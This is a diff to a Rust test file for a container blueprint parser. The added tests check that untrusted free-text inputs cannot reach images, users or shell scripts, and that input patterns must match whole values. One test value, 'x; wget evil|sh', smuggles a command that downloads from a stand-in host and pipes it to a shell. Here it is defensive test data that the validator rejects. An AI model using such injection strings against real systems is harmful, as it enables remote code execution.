@@ -130,9 +130,11 @@ fn guardrails_need_a_trusted_blueprint() {
     refused(&minimal("    image: busybox\n    network_mode: host\n"), 7, 19, "host networking");
     refused(&minimal("    image: busybox\n    cap_add: [NET_ADMIN]\n"), 7, 15, "NET_ADMIN");
     refused(&minimal("    image: busybox\n    devices: [/dev/kvm]\n"), 7, 15, "/dev/kvm");
-    // An input cannot smuggle host networking in: the resolved value is checked.
-    let src = "id: demo\nname: Demo\nversion: 1\ninputs:\n  mode: { type: string, default: host }\ncomponents:\n  app:\n    image: busybox\n    network_mode: \"${inputs.mode}\"\n";
+    // An input cannot smuggle host networking in: the resolved value is checked (and a free
+    // string may not name a network mode at all).
+    let src = "id: demo\nname: Demo\nversion: 1\ninputs:\n  mode: { type: string, enum: [host, bridge], default: host }\ncomponents:\n  app:\n    image: busybox\n    network_mode: \"${inputs.mode}\"\n";
     refused(src, 9, 20, "host networking");
+    refused(&src.replace("enum: [host, bridge], ", ""), 9, 20, "only when `mode` is an enum");
     // Trusted blueprints may.
     let trusted = format!("trusted: true\n{}", minimal("    image: busybox\n    privileged: true\n    network_mode: host\n"));
     assert!(parse(&trusted).is_ok());
@@ -173,4 +175,36 @@ fn every_error_is_reported_at_once() {
     let errs = errors(src);
     assert_eq!(errs.len(), 2, "{errs:?}");
     assert_eq!((errs[0].line, errs[1].line), (7, 8));
+}
+
+#[test]
+fn free_text_inputs_stay_out_of_images_users_paths_and_shells() {
+    let with =
+        |inputs: &str, component: &str| format!("id: demo\nname: Demo\nversion: 1\ninputs:\n{inputs}components:\n  app:\n{component}");
+    let free = "  x: { type: string }\n";
+    refused(&with(free, "    image: \"busybox:${inputs.x}\"\n"), 8, 21, "image may use");
+    refused(&with(free, "    image: busybox\n    user: \"${inputs.x}\"\n"), 9, 12, "user may use");
+    refused(&with(free, "    image: busybox\n    command: [\"sh\", \"-c\", \"echo ${inputs.x}\"]\n"), 9, 33, "shell script");
+    refused(&with(free, "    image: busybox\n    health: { cmd: [\"/bin/ash\", \"-c\", \"test ${inputs.x}\"] }\n"), 9, 45, "shell script");
+    // An enum goes anywhere; a pattern into a shell; numbers anywhere; a free string where no
+    // shell reads it (an argument, an environment variable).
+    let fine =
+        "  x: { type: string, enum: [a, b] }\n  p: { type: string, pattern: \"[a-z]+\" }\n  n: { type: integer }\n  f: { type: string }\n";
+    let src = with(
+        fine,
+        "    image: \"busybox:${inputs.x}\"\n    command: [\"sh\", \"-c\", \"echo ${inputs.p} ${inputs.n}\"]\n    env: { F: \"${inputs.f}\" }\n",
+    );
+    assert!(parse(&src).is_ok(), "{:?}", parse(&src).err());
+    let args = with(fine, "    image: busybox\n    command: [\"echo\", \"${inputs.f}\"]\n");
+    assert!(parse(&args).is_ok(), "{:?}", parse(&args).err());
+}
+
+#[test]
+fn patterns_match_whole_values() {
+    let src = "id: demo\nname: Demo\nversion: 1\ninputs:\n  w: { type: string, pattern: \"[a-z0-9-]+\" }\ncomponents:\n  app: { image: busybox }\n";
+    let bp = parse(src).unwrap();
+    let spec = bp.input("w").unwrap();
+    assert!(inputs::check_value(spec, &InputValue::String("ok-1".into())).is_ok());
+    let err = inputs::check_value(spec, &InputValue::String("x; wget evil|sh".into())).unwrap_err();
+    assert!(err.contains("must match the pattern [a-z0-9-]+"), "{err}");
 }
